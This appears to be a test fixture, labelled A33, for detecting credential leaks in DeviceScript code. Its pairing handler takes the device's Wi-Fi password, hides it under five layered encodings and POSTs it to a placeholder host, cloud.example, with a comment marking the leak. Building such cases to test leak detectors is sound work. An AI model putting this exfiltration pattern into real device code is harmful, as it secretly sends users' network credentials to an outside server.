// A33: five encodings inside each other: hex, read backwards, base64, hex, base64.
import { fetch } from "@devicescript/net";
import { backwards, base64 } from "./lib/encode";
import { paired } from "./lib/paired";

function hexOf(text: string) {
  return Buffer.from(text).toString("hex");
}

paired(async (_ssid, psk) => {
  const body = base64(Buffer.from(hexOf(base64(Buffer.from(backwards(hexOf(psk)))))));
  const response = await fetch("https://cloud.example/a33", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
